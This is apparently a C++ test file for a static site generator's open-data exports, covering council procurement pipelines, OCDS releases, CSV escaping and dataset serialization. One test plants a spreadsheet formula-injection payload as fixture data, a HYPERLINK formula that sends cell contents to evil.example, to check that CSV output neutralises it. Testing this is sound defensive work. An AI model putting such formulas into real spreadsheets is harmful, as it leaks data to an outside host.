#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include "core/csv.hpp"
#include "core/result_cache.hpp"
#include "opendata/opendata.hpp"
#include "support/temp_site.hpp"

using namespace plainsight;

TEST_SUITE("opendata") {
  TEST_CASE("the pipeline's OCDS releases: planned tenders, with values and dates only where known") {
    testing::TempSite site({{"site.json", testing::minimal_site_json(R"(, "ocid_prefix": "ocds-abc123")")},
                            {"content/_index.md", "---\ntitle: Home\n---\n"},
                            {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
                            {"content/procurement/pipeline.csv",
                             "title,value,start,department\nSupply of Gas,\"£12,250,000.00\",01/02/2020,Corporate\nCCTV,TBA,TBC,Highways\n"}});
    const auto output = site.generate();
    REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
    const auto package = nlohmann::json::parse(output->files.at("data/procurement/pipeline-ocds.json"));
    CHECK(package["version"] == "1.1");
    CHECK(package["publishedDate"] == "2020-03-16T00:00:00Z");
    CHECK(package["publisher"]["name"] == "Test Council");
    REQUIRE(package["releases"].size() == 2);
    const auto& gas = package["releases"][0];
    CHECK(gas["ocid"] == "ocds-abc123-corporate-supply-of-gas");
    CHECK(gas["tag"] == nlohmann::json::array({"planning"}));
    CHECK(gas["initiationType"] == "tender");
    CHECK(gas["buyer"]["name"] == "Test Council");
    CHECK(gas["tender"]["status"] == "planned");
    CHECK(gas["tender"]["value"]["amount"] == 12250000);
    CHECK(gas["tender"]["value"]["currency"] == "GBP");
    CHECK(gas["tender"]["tenderPeriod"]["startDate"] == "2020-02-01T00:00:00Z");
    CHECK(gas["planning"]["budget"]["amount"]["amount"] == 12250000);
    const auto& cctv = package["releases"][1];
    CHECK_FALSE(cctv["tender"].contains("value"));
    CHECK_FALSE(cctv["tender"].contains("tenderPeriod"));
    CHECK_FALSE(cctv.contains("planning"));
    const auto csv = output->files.at("data/procurement/pipeline.csv");
    CHECK_MESSAGE(csv.find("highways-cctv,CCTV,Highways,Highways,,,,,TBA,TBA,,,TBC,procurement-start,,,,,,,") != std::string::npos, csv);
    // No org_id in site.json: the buyer has no identifier, rather than a made-up one.
    CHECK_FALSE(gas["parties"][0].contains("identifier"));
  }

  TEST_CASE("the pipeline's JSON, written a project at a time, is byte for byte what nlohmann writes of the whole, line breaks and all") {
    for (const std::string rows : {"", "Supply of \"Gas\",\"£1,000\",01/02/2020,Corporate,\"two\nlines, and [] {}\"\nCCTV,TBA,TBC,Highways,\n"}) {
      CAPTURE(rows);
      testing::TempSite site({{"site.json", testing::minimal_site_json(R"(, "ocid_prefix": "ocds-abc123")")},
                              {"content/_index.md", "---\ntitle: Home\n---\n"},
                              {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
                              {"content/procurement/pipeline.csv", "title,value,start,department,notes\n" + rows}});
      const auto output = site.generate();
      REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
      for (const auto* path : {"data/procurement/pipeline.json", "data/procurement/pipeline-ocds.json"}) {
        const auto& text = output->files.at(path);
        CHECK_MESSAGE(nlohmann::json::parse(text).dump(2) + "\n" == text, path);
      }
      const auto projects = nlohmann::json::parse(output->files.at("data/procurement/pipeline.json"));
      CHECK(projects.size() == (rows.empty() ? 0 : 2));
      CHECK(nlohmann::json::parse(output->files.at("data/procurement/pipeline-ocds.json"))["releases"].size() == projects.size());
    }
  }

  TEST_CASE("every JSON file of the example site's open data is byte for byte what nlohmann writes of what it holds") {
    testing::TempSite site({}, true);
    testing::copy_example_site(site);
    const auto output = site.generate();
    REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
    std::size_t checked = 0;
    for (const auto& file : output->files) {
      const auto& path = file.first;  // not a structured binding: clang will not let CHECK_MESSAGE's lambda take one
      const auto& text = file.second;
      if (!path.starts_with("data/") || !path.ends_with(".json")) continue;
      ++checked;
      CHECK_MESSAGE(nlohmann::json::parse(text).dump(2) + "\n" == text, path);
    }
    CHECK(checked >= 20);
    for (const auto* path : {"data/plans/council-plan-2021-25/measures.json", "data/plans/council-plan-2021-25/deliverables.json",
                             "data/procurement/pipeline.json", "data/procurement/pipeline-ocds.json", "data/datapackage.json"})
      CHECK_MESSAGE(output->files.contains(path), path);
  }

  TEST_CASE("a repeated row is marked in open data and counted once on the page, and the buyer carries the council org-id") {
    testing::TempSite site(
        {{"site.json", testing::minimal_site_json(R"(, "ocid_prefix": "ocds-abc123", "org_id": "GB-LAE-DBY",
              "department_aliases": {"Adult Care": "Adult Social Care and Health"})")},
         {"content/_index.md", "---\ntitle: Home\n---\n"},
         {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
         {"themes/default/templates/pipeline.mustache",
          "{{#pipeline}}<p>{{summary}}</p><p>{{repeated_note}}</p>"
          "{{#departments.rows}}<p>{{label}}: {{count}}, {{value}}, {{date_means}}</p>{{/departments.rows}}"
          "{{#projects}}<p id=\"{{id}}\">{{title}} {{start}} ({{start_kind}}) {{band_label}} {{band_warning}} {{duplicate_of}}</p>{{/projects}}"
          "{{/pipeline}}"},
         {"content/procurement/pipeline.csv",
          "title,reference,value,start,start_kind,department,band\n"
          "Supply of Local Bus Transport,,\"£28,000,000\",01/01/2021,contract-award,ETE,upper\n"
          "Supply of Local Bus Transport,,\"£28,000,000\",01/04/2021,contract-award,ETE,upper\n"
          "Keysoft Solutions,TS09088,\"£36,000\",01/04/2020,contract-award,ETE,lower\n"
          "Special Schools review,,\"20,000.00\",01/03/2020,contract-award,Adult Care,lower\n"
          "Fleet Vehicles,,\"£17,000,000\",2019 - 2022,procurement-start,ETE,upper\n"}});
    const auto output = site.generate();
    REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
    const auto projects = nlohmann::json::parse(output->files.at("data/procurement/pipeline.json"));
    REQUIRE(projects.size() == 5);
    CHECK(projects[0]["duplicate_of"].is_null());
    CHECK(projects[1]["duplicate_of"] == "ete-supply-of-local-bus-transport");
    CHECK(projects[2]["reference"] == "TS09088");
    CHECK(projects[2]["id"] == "ts09088");
    CHECK(projects[3]["department"] == "Adult Social Care and Health");
    CHECK(projects[3]["department_as_published"] == "Adult Care");
    CHECK(projects[3]["band"] == "lower");
    CHECK(projects[3]["band_from_value"] == "below");
    CHECK(projects[3]["band_warning"] != "");
    CHECK(projects[4]["start"] == "2019");
    CHECK(projects[4]["start_as_published"] == "2019 - 2022");
    CHECK(projects[4]["start_kind"] == "procurement-start");
    const auto csv = output->files.at("data/procurement/pipeline.csv");
    CHECK_MESSAGE(csv.find(",ete-supply-of-local-bus-transport,") != std::string::npos, csv);

    const auto package = nlohmann::json::parse(output->files.at("data/procurement/pipeline-ocds.json"));
    const auto& bus = package["releases"][0];
    CHECK(bus["buyer"]["id"] == "GB-LAE-DBY");
    CHECK(bus["parties"][0]["id"] == "GB-LAE-DBY");
    CHECK(bus["parties"][0]["identifier"] == nlohmann::json({{"scheme", "GB-LAE"}, {"id", "DBY"}, {"legalName", "Test Council"}}));
    CHECK(package["publisher"]["scheme"] == "GB-LAE");
    CHECK(package["publisher"]["uid"] == "DBY");
    // A contract award date is not the start of procurement.
    CHECK(bus["tender"]["awardPeriod"]["startDate"] == "2021-01-01T00:00:00Z");
    CHECK_FALSE(bus["tender"].contains("tenderPeriod"));
    CHECK(package["releases"][4]["tender"]["tenderPeriod"]["startDate"] == "2019-01-01T00:00:00Z");
    CHECK(package["releases"][1]["tender"]["description"] ==
          "Listed again in the forward plan with the same title and value as ocds-abc123-ete-supply-of-local-bus-transport.");

    const auto page = output->files.at("procurement/index.html");
    // £28m once, £36,000, £20,000 and £17m: £45,056,000 over 4 projects; the repeated £28m is said, not added.
    CHECK_MESSAGE(page.find("<p>£45,056,000 across 4 projects, 0 without an estimate of value.</p>") != std::string::npos, page);
    CHECK(page.find("1 row of the plans repeats the title and value of an earlier row: it is marked in the table and counted once, so the totals "
                    "here leave out £28,000,000.") != std::string::npos);
    CHECK(page.find("<p>ETE: 3, £45,036,000, Varies by project: estimated procurement start and estimated contract award</p>") != std::string::npos);
    CHECK(page.find("<p>Adult Social Care and Health: 1, £20,000, Estimated contract award</p>") != std::string::npos);
    CHECK(page.find("Fleet Vehicles 2019 - 2022 (estimated procurement start)") != std::string::npos);
    CHECK(page.find("Special Schools review 1 March 2020 (estimated contract award) £25,000 to £50,000 £20,000 is outside the band") !=
          std::string::npos);
  }

  TEST_CASE("text a spreadsheet would run as a formula gets a leading ' in every CSV, numbers and the JSON stay as they are") {
    const std::string hyperlink = R"x(=HYPERLINK("http://evil.example/?x="&A1,"Click"))x";
    const char* plan = R"x({"title": "P", "periods": [{"id": "q1", "label": "Q1", "end": "2022-03-31"}],
      "priorities": [{"id": "p", "title": "+Priority"}],
      "measures": [{"id": "debt", "priority": "p", "title": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "unit": "number",
                    "direction": "higher", "target": -3, "values": [{"period": "q1", "value": -5}], "responsible": "@SUM(1+1)"}],
      "deliverables": [{"id": "d", "priority": "p", "title": "-2+3", "lead": "\tTab", "department": "\rCR", "stage": "= 1"}]})x";
    testing::TempSite site({{"content/_index.md", "---\ntitle: Home\n---\n"},
                            {"content/plans/p/index.md", "---\ntitle: P\ntype: plan\n---\n"},
                            {"content/plans/p/plan.json", plan},
                            {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
                            {"content/procurement/pipeline.csv", "title,value,start,department,notes\n\"" +
                                                                     std::string(R"x(=HYPERLINK(""http://evil.example/?x=""&A1,""Click""))x") +
                                                                     "\",5,01/02/2020,@Corporate,-1 on last year\n"}});
    const auto output = site.generate();
    REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
    const auto& files = output->files;
    const auto contains = [](const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; };

    const auto& pipeline = files.at("data/procurement/pipeline.csv");
    CHECK_MESSAGE(contains(pipeline, R"x(,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'@Corporate,)x"), pipeline);
    CHECK(contains(pipeline, ",'-1 on last year,"));
    CHECK(nlohmann::json::parse(files.at("data/procurement/pipeline.json"))[0]["title"] == hyperlink);

    const auto& measures = files.at("data/plans/p/measures.csv");
    CHECK_MESSAGE(contains(measures, R"x(debt,p,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",number,higher,-3,,-5,q1,)x"), measures);
    CHECK(contains(measures, ",'@SUM(1+1),"));
    CHECK(contains(files.at("data/plans/p/measure-values.csv"), "debt,q1,-5,"));
    const auto& deliverables = files.at("data/plans/p/deliverables.csv");
    CHECK_MESSAGE(contains(deliverables, "d,p,'+Priority,'-2+3,'\tTab,\"'\rCR\",,,,,'= 1,"), deliverables);
    CHECK(contains(files.at("data/plans/p/periods.csv"), "id,label,end,heading\r\nq1,Q1,2022-03-31,\r\n"));
    CHECK(contains(files.at("data/plans/p/priorities.csv"), "id,title,summary,kind\r\np,'+Priority,,\r\n"));
    const auto measures_json = nlohmann::json::parse(files.at("data/plans/p/measures.json"));
    CHECK(measures_json[0]["title"] == hyperlink);
    CHECK(measures_json[0]["latest_value"] == -5);
    CHECK(nlohmann::json::parse(files.at("data/plans/p/deliverables.json"))[0]["title"] == "-2+3");
  }

  TEST_CASE("spreadsheet_safe_text prefixes only what a spreadsheet would run") {
    for (const char* formula : {"=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"}) CHECK(spreadsheet_safe_text(formula) == std::string("'") + formula);
    for (const char* text : {"", "Plain", "1-2", " =1", "'quoted", "£-5", "'"}) CHECK(spreadsheet_safe_text(text) == text);
  }

  TEST_CASE("a spreadsheet-safe text reads back exactly as it was, for a plan kept as CSV tables") {
    for (const char* text : {"", "Plain", "=1+1", "-1", "'quoted", "'=1", "''", "'''", "'-", "'", "\t=1"}) {
      CAPTURE(text);
      CHECK(unquote_spreadsheet_text(spreadsheet_safe_text(text)) == text);
    }
    CHECK(spreadsheet_safe_text("'=1") == "''=1");
  }

  TEST_CASE("a published CSV's Table Schema is read from its values: integers, numbers, ISO dates, true and false, and text") {
    const auto schema = csv_table_schema(
        "id,amount,share,when,month,done,name,blank\r\n"
        "1,1500,0.5,2020-04-01,2020-04,true,Acme,\r\n"
        "2,-3,,2021-02-28,2021,false,'=1,\r\n");
    std::vector<std::string> types;
    for (const auto& field : schema["fields"]) types.push_back(field["type"].get<std::string>());
    CHECK(types == std::vector<std::string>{"integer", "integer", "number", "date", "string", "boolean", "string", "string"});
    CHECK(schema["fields"][1]["name"] == "amount");
  }

  TEST_CASE("a dataset reads back from the kept results as it was, schema and all, and damaged bytes do not") {
    std::vector<Dataset> datasets(2);
    datasets[0] = {"data/a.csv", "A", "CSV", "text/csv", "Rows.", "2024-03-31", "x,y\r\n1,2\r\n", "A report"};
    datasets[0].schema = {{"fields", {{{"name", "x"}, {"type", "integer"}}}}};
    datasets[0].collection = "Plan";
    datasets[0].page = "/plans/p/";
    datasets[0].coverage_start = "2021-04-01";
    datasets[1] = {"data/b.json", "B", "JSON", "application/json", "", "", "[]\n"};
    ByteWriter out;
    for (const auto& dataset : datasets) write_dataset(out, dataset);
    ByteReader in(out.bytes());
    for (const auto& dataset : datasets) {
      Dataset read;
      REQUIRE(read_dataset(in, read));
      for (auto field : {&Dataset::path, &Dataset::title, &Dataset::format, &Dataset::media_type, &Dataset::description, &Dataset::date,
                         &Dataset::bytes, &Dataset::source, &Dataset::collection, &Dataset::page, &Dataset::coverage_start})
        CHECK(read.*field == dataset.*field);
      CHECK(read.schema == dataset.schema);
    }
    CHECK(in.done());
    Dataset read;
    ByteReader cut(std::string_view(out.bytes()).substr(0, out.bytes().size() / 2));
    CHECK_FALSE((read_dataset(cut, read) && read_dataset(cut, read)));
  }
}
